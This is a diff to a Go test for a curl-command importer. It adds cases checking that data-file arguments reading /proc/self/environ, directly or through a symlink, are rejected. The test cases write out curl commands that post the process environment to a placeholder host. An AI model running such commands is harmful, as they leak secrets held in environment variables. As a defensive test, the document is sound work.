@@ -26,6 +26,9 @@ func TestCurlDataFiles(t *testing.T) {
 	write(filepath.Join(beside, "only-beside.json"), `{"b":2}`)
 	write(filepath.Join(beside, "out.sh.1.body"), "bin\x00ary")
 	write(filepath.Join(work, "big.bin"), strings.Repeat("x", 101))
+	if err := os.Symlink("/proc/self/environ", filepath.Join(work, "env-link")); err != nil {
+		t.Fatal(err)
+	}
 	t.Chdir(work)
 
 	for _, tc := range []struct {
@@ -45,6 +48,9 @@ func TestCurlDataFiles(t *testing.T) {
 		{"no name", `curl --data-binary @ http://h/`, "", "--data-binary @: names no file"},
 		{"a directory", `curl -d @dir http://h/`, "", "-d @dir: is a directory"},
 		{"a device", `curl -d @/dev/zero http://h/`, "", "-d @/dev/zero: is not a regular file"},
+		// /proc/self/environ is a regular file: the importer's environment.
+		{"the importer's environment", `curl -d @/proc/self/environ http://h/`, "", "-d @/proc/self/environ: is under /proc, the system's own files"},
+		{"a link to it", `curl -d @env-link http://h/`, "", "-d @env-link: is under /proc"},
 		{"over the limit", `curl --data-binary @big.bin http://h/`, "", "--data-binary @big.bin: is 101 bytes, over the 100-byte body limit (--max-body)"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
